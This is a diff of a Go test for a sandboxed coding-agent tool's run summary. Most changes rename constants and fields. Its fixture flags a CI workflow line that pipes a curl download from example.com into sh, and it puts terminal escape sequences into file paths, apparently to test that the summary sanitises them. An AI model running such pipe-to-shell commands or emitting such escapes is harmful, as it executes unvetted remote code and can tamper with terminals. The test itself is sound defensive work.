@@ -315,7 +315,7 @@ func TestSummary(t *testing.T) {
 	one, zero := 1, 0
 	cost, metered := 0.4212, 0.0123
 	failed := &workorder.Result{
-		TaskID: "T-A1B2C3D4", Project: "my-saas-app", Status: workorder.StatusFailed, EndedBy: workorder.ByValidation,
+		TaskID: "T-A1B2C3D4", Project: "my-saas-app", Status: workorder.StatusFailed, EndedBy: workorder.EndedByValidation,
 		Reasons: workorder.Because(workorder.ReasonValidation, "validation failed: lint"), NextCommand: "sandbox-agent logs T-A1B2C3D4", DurationMS: 72_345,
 		Repo: "https://github.com/myorg/my-saas-app", BaseBranch: "main", Branch: "agent/T-A1B2C3D4-add-pagination",
 		BaseSHA: "0123456789abcdef0123456789abcdef01234567", HeadSHA: "1", Pushed: true,
@@ -343,18 +343,18 @@ func TestSummary(t *testing.T) {
 		},
 		Proof: &workorder.Proof{
 			Checks: []workorder.CheckProof{
-				{Name: "test", Transition: workorder.Fixed, Counts: map[workorder.Transition]int{workorder.Fixed: 2, workorder.StillPasses: 9, workorder.Gone: 1}},
-				{Name: "lint", Transition: workorder.NotCompared, BaseTests: &workorder.CheckRun{Passed: true}},
-				{Name: "unit", Transition: workorder.StillPasses, BaseTests: &workorder.CheckRun{ExitCode: 1}, BaseTestsFailed: make([]workorder.TestChange, 3)},
-				{Name: "types", Transition: workorder.Broken},
+				{Name: "test", Transition: workorder.TransitionFixed, Counts: map[workorder.Transition]int{workorder.TransitionFixed: 2, workorder.TransitionStillPasses: 9, workorder.TransitionDeleted: 1}},
+				{Name: "lint", Transition: workorder.TransitionNotCompared, BaseTests: &workorder.CheckRun{Passed: true}},
+				{Name: "unit", Transition: workorder.TransitionStillPasses, BaseTests: &workorder.CheckRun{ExitCode: 1}, BaseTestsFailed: make([]workorder.TestChange, 3)},
+				{Name: "types", Transition: workorder.TransitionBroken},
 			},
-			Flags:   []workorder.Flag{{Kind: workorder.FlagTestEdited, Path: "b_test.go", Text: "+1 −2"}, {Kind: workorder.FlagTestDeleted, Path: "a_test.go\x1b[2J", Line: 3, Text: "TestA is gone"}},
-			Reasons: workorder.Because(workorder.ReasonCheck, "lint was not run on base: it has no such command"),
+			TestFindings: []workorder.TestFinding{{Kind: workorder.FindingTestEdited, Path: "b_test.go", Text: "+1 −2"}, {Kind: workorder.FindingTestDeleted, Path: "a_test.go\x1b[2J", Line: 3, Text: "TestA is gone"}},
+			Reasons:      workorder.Because(workorder.ReasonCheck, "lint was not run on base: it has no such command"),
 		},
 		Services: []workorder.ServiceEnd{{Name: "redis", State: "ready"}, {Name: "db", State: "exited", Log: "logs/db.log", Tail: "no space"}},
 		PR:       &workorder.PR{Number: 7, State: "draft", URL: "https://github.com/myorg/my-saas-app/pull/7"},
 		Surface: []workorder.SurfaceFinding{
-			{Kind: "workflow", Path: ".github/workflows/ci.yml", Line: 12, Text: "runs: curl -s https://example.com | sh\x1b[2J", Grave: true},
+			{Kind: "workflow", Path: ".github/workflows/ci.yml", Line: 12, Text: "runs: curl -s https://example.com | sh\x1b[2J", Severe: true},
 			{Kind: "make", Path: "Makefile", Text: "new target deploy"},
 		},
 		Evidence: []workorder.Evidence{{Name: "screenshot", Path: "evidence/page.png"}},
@@ -377,7 +377,7 @@ func TestSummary(t *testing.T) {
 		Refusals: []workorder.Refusal{{Rule: "privileged", Count: 2, Text: "a privileged container\x1b[2J", By: "docker (pid 7)"}, {Rule: "bind", Count: 1, Text: "a bind of /etc", By: "compose (pid 8)"}},
 	}
 	crashed := &workorder.Result{
-		TaskID: "T-00000000", Status: workorder.StatusError, EndedBy: workorder.ByGit, Repo: "/x", DurationMS: 900,
+		TaskID: "T-00000000", Status: workorder.StatusError, EndedBy: workorder.EndedByGit, Repo: "/x", DurationMS: 900,
 		Reasons: workorder.Because(workorder.ReasonClone, "clone: authentication failed"), Agent: workorder.Agent{Harness: "command", ExitCode: &one},
 	}
 	bare := &workorder.Result{TaskID: "T-00000001", Status: workorder.StatusSuccess}
